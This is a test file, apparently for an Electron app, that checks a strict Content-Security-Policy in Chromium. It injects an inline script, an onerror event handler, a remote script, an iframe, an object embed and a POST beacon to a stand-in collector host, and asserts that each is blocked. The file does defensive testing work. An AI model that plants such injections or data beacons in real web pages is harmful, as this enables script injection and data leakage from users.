/**
 * The strict CSP in a real engine (Chromium is Electron's engine; the app:// handler sends the same
 * policy, src-main/logic/protocol.test.ts): the whole cockpit draws under it without a single
 * violation (not even zod's eval probe) and without any request leaving its origin, while injected
 * inline script and event handlers, remote scripts, frames, plugins and connections to unlisted hosts
 * are blocked.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { describePage, externalRequests, openPage, waitReady } from './harness.mjs';
import { withCockpit } from './hooks.mjs';

describe('Content-Security-Policy in Chromium', () => {
  const env = withCockpit();

  it('the cockpit draws completely under the policy, with no violation and nothing fetched from elsewhere', async () => {
    const { page, close } = await openPage(env.browser, `${env.cockpit.url}?city=linyi&page=overview`, { goto: false });
    try {
      await page.addInitScript(() => {
        globalThis.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) => globalThis.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber} ${e.sample}`));
      });
      const response = await page.goto(`${env.cockpit.url}?city=linyi&page=overview`, { waitUntil: 'domcontentloaded' });
      const csp = response.headers()['content-security-policy'];
      assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
      assert.match(csp, /object-src 'none'/);
      await waitReady(page).catch(async (e) => assert.fail(`${e.message}\n${await describePage(page)}`));
      assert.deepEqual(await page.evaluate(() => globalThis.__violations), []);
      assert.deepEqual(externalRequests(page, env.cockpit.origin), [], 'requests left the cockpit origin');
    } finally {
      await close();
    }
  });

  it('injected script and handlers, remote code, frames, plugins and unlisted connections are blocked', async () => {
    const { page, close } = await openPage(env.browser, `${env.cockpit.url}?city=linyi`);
    try {
      await waitReady(page);
      const result = await page.evaluate(async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
        const s = document.createElement('script');
        s.textContent = 'globalThis.__inline = 1';
        document.head.append(s);
        // (eval cannot be tried from here: code injected by the test driver is exempt from CSP; the first
        // test shows the app itself never needs it)
        const img = document.createElement('img');
        img.setAttribute('onerror', 'globalThis.__handler = 1');
        img.src = 'data:,not-an-image';
        document.body.append(img);
        const remote = await new Promise((r) => {
          const x = document.createElement('script');
          x.src = 'https://cdn.example.com/x.js';
          x.onload = () => r('loaded');
          x.onerror = () => r('blocked');
          document.head.append(x);
        });
        let connect = 'allowed';
        try {
          await fetch('https://collector.example.com/beacon', { method: 'POST', body: 'x' });
        } catch {
          connect = 'blocked';
        }
        const frame = document.createElement('iframe');
        frame.src = 'https://example.com/';
        document.body.append(frame);
        const obj = document.createElement('object');
        obj.data = 'https://example.com/x.swf';
        document.body.append(obj);
        await new Promise((r) => setTimeout(r, 300));
        return { inline: globalThis.__inline ?? null, handler: globalThis.__handler ?? null, remote, connect, violations: [...new Set(violations)].sort() };
      });
      assert.equal(result.inline, null, 'inline script ran');
      assert.equal(result.handler, null, 'inline event handler ran');
      assert.equal(result.remote, 'blocked');
      assert.equal(result.connect, 'blocked');
      for (const d of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'object-src']) assert.ok(result.violations.includes(d), `no ${d} violation: ${result.violations}`);
    } finally {
      await close();
    }
  });
});
